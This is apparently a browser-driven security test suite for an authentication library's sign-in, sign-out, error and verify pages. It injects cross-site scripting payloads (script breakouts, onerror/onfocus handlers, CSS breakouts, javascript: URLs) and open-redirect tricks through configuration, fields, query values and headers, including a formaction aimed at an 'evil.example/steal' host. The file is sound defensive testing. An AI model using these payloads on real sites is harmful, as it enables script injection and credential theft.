/**
 * Red team, round 7: the built-in pages in real Chromium, fed hostile values
 * through every door a value reaches a page by: the provider's `name` and
 * `style`, the theme (`brandColor`, `buttonText`, `logo`), credentials field
 * labels, placeholders and attributes, and from the request the `error`,
 * `code`, `email` and `callbackUrl` query values and `Accept-Language`.
 *
 * A page that escapes every value runs no script but its own, carries no
 * inline handler or style attribute, and causes no CSP violation at all (an
 * injection the CSP merely blocked would still show up as a violation).
 * Every page refuses to be framed by another site, and its forms post to the
 * app's own origin.
 */
import type { Browser, BrowserContext, Page } from "playwright-core"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { Auth, type AuthConfig } from "@tessera/core"
import Email from "@tessera/core/providers/email"
import { MemoryAdapter } from "@tessera/testing"
import { hasChromium, launchChromium } from "../harness/chromium.js"
import { serveAuth, type AuthServer } from "../harness/http-server.js"
import { credentialsProvider, get, oauthProvider, ORIGIN, SECRET } from "../harness/index.js"

/** Each payload sets `window.__pwned` if it runs, by a script, a handler or a URL. */
const SCRIPT = `</span></button></form></style></title><script>window.__pwned="script"</script>`
const HANDLER = `"><img src=x onerror="window.__pwned='handler'">`
const SINGLE = `' onfocus='window.__pwned="single"' autofocus x='`
const CSS = `red}</style><script>window.__pwned="css"</script><style>x{`
const JS_URL = "javascript:window.__pwned='url'"

function hostileConfig(overrides: Partial<AuthConfig> = {}): AuthConfig {
  return {
    secret: SECRET,
    trustHost: true,
    adapter: MemoryAdapter(),
    theme: { brandColor: CSS, buttonText: `#fff;}${CSS}`, logo: `x${HANDLER}` },
    providers: [
      oauthProvider({
        name: `Git${SCRIPT}${HANDLER}`,
        style: { brandColor: CSS, logo: `data:,${HANDLER}` },
      }),
      oauthProvider({
        id: "acme",
        name: SINGLE,
        style: { bg: `#000;--x:1}${CSS}`, logo: `data:,${SINGLE}` },
      }),
      Email({ sendVerificationRequest: () => {}, method: "both", confirmLink: true }),
      credentialsProvider({
        credentials: {
          username: { label: `User${SCRIPT}`, placeholder: HANDLER, value: SINGLE },
          password: { label: "Password", type: `password${HANDLER}`, title: HANDLER },
        },
      }),
    ],
    ...overrides,
  }
}

let current: AuthConfig = hostileConfig()
let server: AuthServer
let origin = ""
let browser: Browser

beforeAll(async () => {
  if (!hasChromium) return
  server = await serveAuth(() => current, { localhost: true, home: true })
  origin = server.origin
  browser = await launchChromium()
})

afterAll(async () => {
  await browser?.close()
  await server?.stop()
})

/** CSP violations and `window.__pwned`, recorded from the first byte of each document. */
async function watchedContext(headers: Record<string, string> = {}): Promise<BrowserContext> {
  const context = await browser.newContext({ extraHTTPHeaders: headers })
  await context.addInitScript(() => {
    const w = window as unknown as { __violations: string[] }
    w.__violations = []
    document.addEventListener("securitypolicyviolation", (e) =>
      w.__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`),
    )
  })
  return context
}

interface Findings {
  pwned: unknown
  violations: string[]
  handlers: string[]
  styles: number
  foreignScripts: number
  strayImages: string[]
  formActions: string[]
  links: string[]
}

/** What the open page shows of an injection that got through. */
async function inspect(page: Page): Promise<Findings> {
  // Give an injected handler or autofocus a moment to fire: a real round trip, no timer.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)))
  return page.evaluate(() => {
    const w = window as unknown as { __pwned?: unknown; __violations: string[] }
    const all = [...document.querySelectorAll("*")]
    const scripts = [...document.scripts]
    const nonce = scripts[0]?.nonce ?? ""
    return {
      pwned: w.__pwned,
      violations: w.__violations,
      handlers: all.flatMap((el) =>
        [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`),
      ),
      styles: all.filter((el) => el.hasAttribute("style")).length,
      foreignScripts: scripts.filter((s) => !nonce || s.nonce !== nonce).length,
      strayImages: [...document.images]
        .filter((img) => !img.matches(".logo, .provider-logo"))
        .map((img) => img.outerHTML),
      formActions: [...document.forms].map((f) => f.action),
      links: [...document.links].map((a) => a.href),
    }
  })
}

function expectClean(found: Findings, where: string) {
  expect({ where, ...found, formActions: [], links: [] }).toEqual({
    where,
    pwned: undefined,
    violations: [],
    handlers: [],
    styles: 0,
    foreignScripts: 0,
    strayImages: [],
    formActions: [],
    links: [],
  })
  for (const action of found.formActions) expect(new URL(action).origin, where).toBe(origin)
  for (const href of found.links) expect(new URL(href).protocol, where).toMatch(/^https?:$/)
}

describe.skipIf(!hasChromium)("hostile values on every built-in page, in Chromium", () => {
  test("sign-in, sign-out, error, verify-request and confirm-link pages run none of them", async () => {
    current = hostileConfig()
    const context = await watchedContext({ "Accept-Language": `${HANDLER},de;q=0.9` })
    try {
      const page = await context.newPage()
      const q = (values: Record<string, string>) => new URLSearchParams(values).toString()
      const visits = [
        `/auth/signin?${q({ error: HANDLER, code: SCRIPT, email: HANDLER, callbackUrl: `/${SCRIPT}${HANDLER}` })}`,
        `/auth/signin?${q({ error: "OAuthCallbackError", code: SCRIPT, callbackUrl: JS_URL })}`,
        `/auth/signin?${q({ error: "__proto__", callbackUrl: `${origin}/${SINGLE}` })}`,
        `/auth/signout?${q({ callbackUrl: JS_URL })}`,
        `/auth/signout?${q({ callbackUrl: `/${SCRIPT}` })}`,
        `/auth/error?${q({ error: SCRIPT })}`,
        `/auth/error?${q({ error: "toString" })}`,
        `/auth/verify-request?${q({ provider: "email", type: "email", email: HANDLER, error: SCRIPT })}`,
        `/auth/verify-request?${q({ provider: SCRIPT, email: HANDLER })}`,
        `/auth/callback/email?${q({ token: "a".repeat(64), email: "ada@example.com", callbackUrl: `/${HANDLER}` })}`,
        `/auth/callback/email?${q({ code: "12345678", email: "ada@example.com", callbackUrl: JS_URL })}`,
      ]
      for (const path of visits) {
        const response = await page.goto(`${origin}${path}`)
        expect(response!.headers()["content-type"], path).toMatch(/^text\/html/)
        expectClean(await inspect(page), path)
      }
    } finally {
      await context.close()
    }
  })

  test("a credentials field's extra keys add no inline handler, style or form override", async () => {
    // Extra keys become attributes (`minlength`, `pattern`, ...). `onfocus` or `style` would be
    // inline code the page's CSP has to refuse (and reports); `formaction` on a submit input
    // would post the password to another origin.
    current = hostileConfig({
      providers: [
        credentialsProvider({
          credentials: {
            username: {
              label: "Username",
              minlength: 3,
              autofocus: true,
              onfocus: "window.__pwned='onfocus'",
              ONMOUSEOVER: "window.__pwned='upper'",
              style: "background:url(https://evil.example/x)",
              form: "elsewhere",
            },
            go: { label: "Go", type: "submit", formaction: "https://evil.example/steal" },
          },
        }),
      ],
    })
    const context = await watchedContext()
    try {
      const page = await context.newPage()
      await page.goto(`${origin}/auth/signin`)
      const found = await inspect(page)
      expectClean(found, "sign-in with extra field keys")
      const input = page.locator("#input-username-for-credentials-provider")
      expect(await input.getAttribute("minlength")).toBe("3")
      expect(await input.getAttribute("form")).toBeNull()
      const submit = page.locator("#input-go-for-credentials-provider")
      expect(await submit.getAttribute("formaction")).toBeNull()
    } finally {
      await context.close()
    }
  })

  test("a javascript: callbackUrl never becomes a link on the sign-out page", async () => {
    current = hostileConfig()
    const context = await watchedContext()
    try {
      const page = await context.newPage()
      await page.goto(`${origin}/auth/signout?callbackUrl=${encodeURIComponent(JS_URL)}`)
      const hrefs = await page.$$eval("a", (links) => links.map((a) => a.href))
      expect(hrefs.every((href) => href.startsWith(`${origin}/`))).toBe(true)
      await page.click("a.button")
      await page.waitForURL(`${origin}/`)
      expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined()
    } finally {
      await context.close()
    }
  })

  test("no page can be framed by another site", async () => {
    current = hostileConfig()
    const context = await browser.newContext()
    try {
      const page = await context.newPage()
      const paths = [
        "/auth/signin",
        "/auth/signout",
        "/auth/error?error=Verification",
        "/auth/verify-request?provider=email&type=email",
        `/auth/callback/email?token=${"a".repeat(64)}&email=ada%40example.com`,
      ]
      // The attacker's page, at another origin than the app's (127.0.0.1, not localhost).
      const attacker = origin.replace("//localhost:", "//127.0.0.1:") + "/framing"
      await page.route(attacker, (route) =>
        route.fulfill({
          contentType: "text/html",
          body: paths.map((p) => `<iframe src="${origin}${p}"></iframe>`).join(""),
        }),
      )
      await page.goto(attacker)
      await page.waitForLoadState("load")
      const framed = page.frames().filter((f) => f !== page.mainFrame())
      expect(framed).toHaveLength(paths.length)
      for (const frame of framed) {
        // A refused frame is Chromium's error page: nothing of the app's is in it.
        const app = await frame.evaluate(() => document.querySelector("main .card, form") !== null)
        expect(app).toBe(false)
      }
    } finally {
      await context.close()
    }
  })
})

describe("page headers, without a browser", () => {
  test("every page: frame-ancestors 'none', X-Frame-Options DENY, a fresh nonce, no-store", async () => {
    const config = hostileConfig()
    const paths = [
      "/auth/signin",
      "/auth/signin?error=Whatever",
      "/auth/signout",
      "/auth/error",
      "/auth/error?error=Configuration",
      "/auth/verify-request",
      "/auth/verify-request?provider=email",
      `/auth/callback/email?token=${"a".repeat(64)}&email=ada%40example.com`,
    ]
    const nonces = new Set<string>()
    for (const path of [...paths, ...paths]) {
      const response = await Auth(get(`${ORIGIN}${path}`), config)
      const csp = response.headers.get("content-security-policy") ?? ""
      expect(csp, path).toContain("frame-ancestors 'none'")
      expect(csp, path).toContain("base-uri 'none'")
      expect(csp, path).not.toContain("unsafe-inline")
      expect(response.headers.get("x-frame-options"), path).toBe("DENY")
      expect(response.headers.get("cache-control"), path).toContain("no-store")
      const nonce = /'nonce-([^']+)'/.exec(csp)![1]!
      nonces.add(nonce)
      const body = await response.text()
      // Every script and style element carries the header's nonce, and only it.
      const tags = body.match(/<(script|style)\b[^>]*>/g) ?? []
      expect(tags.length, path).toBeGreaterThan(0)
      for (const tag of tags)
        expect(tag, path).toBe(tag.replace(/nonce="[^"]*"/, `nonce="${nonce}"`))
      expect(
        tags.every((tag) => tag.includes(`nonce="${nonce}"`)),
        path,
      ).toBe(true)
    }
    expect(nonces.size).toBe(paths.length * 2)
  })
})

describe("values echoed into forms and links, without a browser", () => {
  const tricks = [
    "//evil.example/x",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "http://localhost:3000@evil.example/",
    "http://evil.example\\@localhost:3000/",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/%2F%2Fevil.example",
  ]

  test.each(tricks)(
    "callbackUrl %j: every link and hidden field stays on the app",
    async (value) => {
      const config = hostileConfig()
      for (const path of ["/auth/signin", "/auth/signout"]) {
        const response = await Auth(
          get(`${ORIGIN}${path}?callbackUrl=${encodeURIComponent(value)}`),
          config,
        )
        const body = await response.text()
        const urls = [
          ...body.matchAll(/name="callbackUrl" value="([^"]*)"/g),
          ...body.matchAll(/<a [^>]*href="([^"]*)"/g),
          ...body.matchAll(/<form [^>]*action="([^"]*)"/g),
        ].map((m) => m[1]!.replaceAll("&amp;", "&").replaceAll("&#39;", "'"))
        expect(urls.length, path).toBeGreaterThan(0)
        for (const url of urls) expect(new URL(url, ORIGIN).origin, `${path}: ${url}`).toBe(ORIGIN)
        // And it is remembered as the app's origin too, not the trick.
        const remembered = response.headers.getSetCookie().find((c) => c.includes("callback-url="))
        if (remembered) {
          const value = decodeURIComponent(remembered.split(";")[0]!.split("=").slice(1).join("="))
          expect(new URL(value).origin).toBe(ORIGIN)
        }
      }
    },
  )

  test("a provider name with placeholders and replacement patterns is shown as written", async () => {
    const config = hostileConfig({
      providers: [oauthProvider({ name: "{provider} $& $' $1 {host}" })],
    })
    const body = await (await Auth(get(`${ORIGIN}/auth/signin`), config)).text()
    expect(body).toContain(
      "<span data-label>Sign in with {provider} $&amp; $&#39; $1 {host}</span>",
    )
  })
})
